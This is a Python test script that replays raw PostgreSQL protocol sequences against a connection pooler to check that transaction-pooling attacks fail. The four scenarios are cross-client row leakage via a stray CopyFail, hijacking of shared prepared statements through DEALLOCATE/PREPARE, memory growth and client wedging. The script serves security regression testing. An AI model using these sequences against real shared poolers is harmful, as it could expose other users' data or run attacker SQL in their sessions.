"""Attacks on transaction pooling, each as raw protocol against a running agent; exit 1 if any succeeds.

    reproductions.py leak|hijack|memory|wedge|all --agent-port P --agent-pid PID --pg-host H --pg-port P [--user U]

leak     One client sends a COPY with its CopyDone in the same write, a failing Parse, then a stray CopyFail;
         another client's query then runs on the same server. The first must never receive the second's rows,
         and the second must receive them. (Pool of one server.)
hijack   A client learns the shared statement names from pg_prepared_statements and redefines them with
         DEALLOCATE and PREPARE, as SQL and inside a DO block; another client's Bind of its own named
         statement must still run its own SQL. (Pool of one server.)
memory   40 clients each prepare one distinct 4 MiB statement and leave; the agent's RSS must come back to
         within a few MiB of where it started.
wedge    While one client holds a named statement, another pipelines DISCARD ALL, a failing Bind and a Parse
         of the same text, then parses it again: that Parse must be answered. (Pool of one server.)
"""
import argparse
import os
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pgwire  # noqa: E402


def connect(o):
    conn = pgwire.Connection("127.0.0.1", o.agent_port, timeout=15)
    conn.login(o.user, o.database)
    return conn


def rows_of(messages):
    return [body for kind, body in messages if kind == b"D"]


def leak(o):
    attacker = connect(o)
    victim = connect(o)
    # ON COMMIT DROP: a temporary table that outlived the query would pin the attacker to the only server.
    attacker.send(pgwire.query("CREATE TEMP TABLE pa(a int) ON COMMIT DROP; COPY pa FROM STDIN") + pgwire.copy_done())
    kinds = [k for k, _ in attacker.read_until({b"Z"})]
    if kinds[-4:] != [b"C", b"G", b"C", b"Z"]:
        return f"unexpected answer to the COPY with its CopyDone: {kinds}"
    attacker.send(pgwire.parse("", "SELEC") + pgwire.sync())
    attacker.read_until({b"Z"})
    attacker.send(pgwire.copy_fail("late"))
    try:
        extra = attacker.read(timeout=0.5)
        return f"a CopyFail outside COPY was answered: {extra}"
    except socket.timeout:
        pass
    answer = {}

    def victim_query():
        victim.send(pgwire.query("SELECT pg_sleep(3), 'victim-secret'"))
        try:
            answer["messages"] = victim.read_until({b"Z"}, timeout=15)
        except Exception as error:  # noqa: BLE001
            answer["error"] = str(error)

    thread = threading.Thread(target=victim_query)
    thread.start()
    time.sleep(0.5)
    attacker.send(pgwire.describe("P", ""))
    seen = []
    deadline = time.monotonic() + 4
    try:
        while time.monotonic() < deadline:
            seen.append(attacker.read(timeout=max(0.01, deadline - time.monotonic())))
    except (socket.timeout, pgwire.Closed):
        pass
    thread.join()
    if b"victim-secret" in bytes(attacker.received):
        return f"the attacker received the victim's rows: {seen}"
    if "error" in answer or not any(b"victim-secret" in row for row in rows_of(answer.get("messages", []))):
        return f"the victim did not get its rows: {answer}"
    return None


def hijack(o):
    victim = connect(o)
    victim.send(pgwire.parse("vs", "SELECT $1::text || ':' || 'victim' AS v") + pgwire.sync())
    victim.read_until({b"Z"})

    def victim_runs(value):
        victim.send(pgwire.bind("", "vs", [value]) + pgwire.execute() + pgwire.sync())
        return rows_of(victim.read_until({b"Z"}))

    first = victim_runs("p")
    if not first or not first[0].endswith(b"p:victim"):
        return f"the victim's statement did not run: {first}"
    for how in ("sql", "do"):
        names = pgwire.simple("127.0.0.1", o.agent_port, o.user, o.database,
                              "SELECT name FROM pg_prepared_statements WHERE NOT from_sql")
        if not names:
            return "no shared statement is visible on the server: the reproduction needs a pool of one"
        for (name,) in names:
            redefine = f"DEALLOCATE {name}; PREPARE {name}(text) AS SELECT 'HIJACKED:' || $1 AS v"
            if how == "do":
                redefine = f"DO $$ BEGIN EXECUTE 'DEALLOCATE {name}'; EXECUTE 'PREPARE {name}(text) AS SELECT ''HIJACKED:'' || $1 AS v'; END $$"
            # SQL-level statements pin their client; with max_pinned = 0 the attacker is closed and its server reset.
            attacker = connect(o)
            attacker.send(pgwire.query(redefine))
            try:
                attacker.read_until({b"Z"})
            except pgwire.Closed:
                pass
            attacker.close()
        result = victim_runs("secret")
        if not result or b"HIJACKED" in result[0] or not result[0].endswith(b"secret:victim"):
            return f"redefined with {how}: the victim's Bind ran {result}"
    return None


def wedge(o):
    text = "SELECT $1::int + 1 AS n"
    holder = connect(o)
    holder.send(pgwire.parse("s1", text) + pgwire.sync())
    holder.read_until({b"Z"})
    other = connect(o)
    try:
        # One write, so the server stays with this client throughout. Nothing is named yet, so the DISCARD ALL
        # goes out with the rest: the server already has the shared statement (the holder's), the Parse of
        # s2 closes and makes it anew, the DISCARD's tag leaves that Close unconfirmed, and the failing Bind
        # skips both. The Parse of s3, behind the next Sync, waits for that outcome: it must not wait forever.
        other.send(pgwire.query("DISCARD ALL") + pgwire.bind("", "nothing") + pgwire.execute()
                   + pgwire.parse("s2", text) + pgwire.sync()
                   + pgwire.parse("s3", text) + pgwire.bind("", "s3", ["41"]) + pgwire.execute() + pgwire.sync())
        try:
            other.read_until({b"Z"}, timeout=10)
            other.read_until({b"Z"}, timeout=10)
            messages = other.read_until({b"Z"}, timeout=10)
        except socket.timeout:
            return "the Parse behind the skipped one was never answered: the client is wedged"
        rows = rows_of(messages)
        if len(rows) != 1 or not rows[0].endswith(b"42"):
            return f"unexpected answer to the Parse, Bind and Execute: {messages}"
        holder.send(pgwire.bind("", "s1", ["1"]) + pgwire.execute() + pgwire.sync())
        rows = rows_of(holder.read_until({b"Z"}))
        if len(rows) != 1 or not rows[0].endswith(b"2"):
            return f"the holder's statement no longer runs: {rows}"
    except pgwire.Closed as error:
        return f"a connection was closed: {error}"
    finally:
        other.close()
        holder.close()
    return None


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def memory(o):
    # Warm up: a few ordinary clients, so buffers that stay anyway are in the baseline.
    for _ in range(3):
        conn = connect(o)
        conn.send(pgwire.parse("w", "SELECT 1") + pgwire.sync())
        conn.read_until({b"Z"})
        conn.send(pgwire.terminate())
        conn.close()
    time.sleep(0.5)
    before = rss_kib(o.agent_pid)
    peak = before
    padding = "x" * (4 << 20)
    for client in range(40):
        conn = connect(o)
        conn.send(pgwire.parse("big", f"SELECT {client} /* {padding} */") + pgwire.sync())
        kinds = [k for k, _ in conn.read_until({b"Z"}, timeout=60)]
        if b"E" in kinds:
            return f"client {client}: the 4 MiB Parse was refused"
        peak = max(peak, rss_kib(o.agent_pid))
        conn.send(pgwire.terminate())
        conn.close()
    time.sleep(1.0)
    after = rss_kib(o.agent_pid)
    print(f"memory: RSS {before // 1024} MiB before, {peak // 1024} MiB at the peak, {after // 1024} MiB after 40 clients left", flush=True)
    if after - before > 8 * 1024:
        return f"RSS grew by {(after - before) // 1024} MiB and stayed"
    return None


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("scenario", choices=["leak", "hijack", "memory", "wedge", "all"])
    parser.add_argument("--agent-port", type=int, required=True)
    parser.add_argument("--agent-pid", type=int, default=0)
    parser.add_argument("--user", default="postgres")
    parser.add_argument("--database", default="postgres")
    o = parser.parse_args()
    scenarios = ["leak", "hijack", "memory", "wedge"] if o.scenario == "all" else [o.scenario]
    failed = False
    for name in scenarios:
        problem = globals()[name](o)
        print(f"{name}: {'ok' if problem is None else 'FAILED: ' + problem}", flush=True)
        failed |= problem is not None
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
